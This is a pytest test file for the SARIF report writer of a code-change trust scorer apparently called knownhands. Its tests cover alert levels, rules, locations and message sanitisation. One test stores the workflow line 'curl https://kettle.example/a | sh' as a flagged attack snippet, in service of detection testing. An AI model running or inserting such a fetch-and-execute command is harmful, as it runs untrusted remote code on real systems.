import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from invented_scores import ATTACK, NEW_GROUND, START, with_reasons
from knownhands.inventory import Inventory
from knownhands.records import Band, Broken, Evidence, Outcome
from knownhands.report.sarif import FORMAT, NO_FILE
from knownhands.score import Score


def run_of(result: Score | Inventory) -> dict[str, Any]:
    log = json.loads(FORMAT(result))
    assert log["version"] == "2.1.0"
    (run,) = log["runs"]
    return run


def first_uri(result: dict[str, Any]) -> str:
    return result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]


@pytest.mark.parametrize(("band", "level"), [(Band.REVIEW, "warning"), (Band.HIGH_RISK, "error")])
def test_a_change_to_look_at_is_a_failing_result(score: Score, band: Band, level: str) -> None:
    (result,) = run_of(replace(score, band=band))["results"]
    assert (result["ruleId"], result["kind"], result["level"]) == ("trust", "fail", level)
    assert "-12.4 67% of the files" in result["message"]["text"]


@pytest.mark.parametrize("band", [Band.TRUSTED, Band.ORDINARY])
def test_an_ordinary_change_raises_no_alert(score: Score, band: Band) -> None:
    run = run_of(replace(score, band=band))
    (note,) = run["invocations"][0]["toolExecutionNotifications"]
    assert run["results"] == []
    assert note["level"] == "note"
    assert note["message"]["text"].startswith("Trust 73 of 100")


def test_a_policy_that_fails_is_an_error_even_for_an_ordinary_change(below: Score) -> None:
    (result,) = run_of(below)["results"]
    assert (result["ruleId"], result["kind"], result["level"]) == ("policy", "fail", "error")
    text = result["message"]["text"]
    for part in ("main..kiln", "Trust 73 is below 80, the bar set by the command line", "What to do: Read the reasons"):
        assert part in text


def test_a_reason_is_declared_in_words_and_not_as_a_column(score: Score) -> None:
    reason = replace(
        NEW_GROUND, feature="author_commits", sentence="its author's e-mail address has 3 earlier commits here"
    )
    rules = run_of(with_reasons(score, reason))["tool"]["driver"]["rules"]
    (text,) = (rule["shortDescription"]["text"] for rule in rules if rule["id"] == "author_commits")
    assert text == "Its author's e-mail address has … earlier commits here (cost to fake: free)"


def test_a_rule_that_nobody_can_answer_is_an_open_question(score: Score) -> None:
    open_rule = Broken("fail_checks: is_old", "Is it old? unknown.", "Supply what is missing.")
    (result,) = run_of(replace(score, policy=Outcome(None, (open_rule,))))["results"]
    assert (result["ruleId"], result["kind"], result["level"]) == ("policy", "open", "none")


def test_an_unknown_score_is_one_open_question_never_silence(unknown: Score) -> None:
    (result,) = run_of(unknown)["results"]
    assert (result["ruleId"], result["kind"], result["level"]) == ("trust", "open", "none")
    assert "the clone is shallow" in result["message"]["text"]


def test_every_result_points_at_its_rule_and_has_a_location(several: Inventory) -> None:
    run = run_of(several)
    rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    assert rules == ["trust", "policy", "line", "new_ground_share", "reviewed_by_others"]
    assert [result["ruleId"] for result in run["results"]] == ["trust", "policy", "trust"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]] == result["ruleId"]
        assert first_uri(result)


def test_a_location_shows_the_line_and_what_stands_there(below: Score) -> None:
    (result,) = run_of(below)["results"]
    region = result["locations"][0]["physicalLocation"]["region"]
    assert region == {"startLine": 7, "snippet": {"text": "glaze = mix(cobalt, tin);"}}


def test_a_line_in_a_path_is_understood(checked: Score) -> None:
    (result,) = run_of(checked)["results"]
    agents = result["relatedLocations"][-1]["physicalLocation"]
    assert (agents["artifactLocation"]["uri"], agents["region"]["startLine"]) == ("AGENTS.md", 1)


def test_packages_stand_where_their_file_names_them(packages: Inventory) -> None:
    first, second = run_of(packages)["results"]
    assert (first_uri(first), first["locations"][0]["physicalLocation"]["region"]["startLine"]) == ("uv.lock", 12)
    assert first_uri(second) == "uv.lock"


def test_paths_are_percent_encoded(below: Score) -> None:
    paths = ("a b/c:d.c", "100%.md", "naïve.py", "../x?y#z")
    reason = replace(NEW_GROUND, evidence=tuple(Evidence("file", path) for path in paths))
    (result,) = run_of(with_reasons(below, reason))["results"]
    uris = [first_uri(result), *(first_uri({"locations": [each]}) for each in result["relatedLocations"])]
    assert uris == ["a%20b/c%3Ad.c", "100%25.md", "na%C3%AFve.py", "../x%3Fy%23z"]


def test_without_a_file_there_is_still_a_location(below: Score) -> None:
    (result,) = run_of(with_reasons(below, START))["results"]
    assert first_uri(result) == NO_FILE


def test_a_message_holds_no_link_and_no_placeholder(hostile: Score) -> None:
    for result in run_of(hostile)["results"]:
        text = result["message"]["text"]
        assert "](" not in text
        assert "{0}" not in text.replace("{{0}}", "")
        assert "\x1b" not in text


def test_the_alerts_of_a_score_are_those_of_a_list_of_one(risky: Score) -> None:
    assert run_of(risky)["results"] == run_of(Inventory.of([risky]))["results"]


def test_each_line_to_look_at_is_an_alert_where_it_stands(attacking: Score) -> None:
    trust, *lines = run_of(attacking)["results"]
    assert trust["ruleId"] == "trust"
    assert [(line["ruleId"], line["level"], first_uri(line)) for line in lines] == [
        ("line", "error", "package.json"),
        ("line", "error", ".github/workflows/fire.yml"),
        ("line", "error", "Makefile"),
    ]
    region = lines[1]["locations"][0]["physicalLocation"]["region"]
    assert (region["startLine"], region["snippet"]["text"]) == (8, "run: curl https://kettle.example/a | sh")
    assert "What to check next: Read what that package does" in lines[0]["message"]["text"]
    assert len({line["partialFingerprints"]["knownhandsSubject/v1"] for line in (trust, *lines)}) == 4


def test_a_line_that_is_unusual_and_no_alarm_is_a_note(score: Score) -> None:
    unusual = replace(ATTACK, band=Band.ORDINARY, alarm_share=0.05)
    results = run_of(replace(score, concerns=(unusual, *score.concerns)))["results"]
    assert {(line["ruleId"], line["kind"], line["level"]) for line in results} == {("line", "fail", "note")}


def test_golden(golden: Callable[[str, str], None], several: Inventory) -> None:
    golden("several.sarif", FORMAT(several))
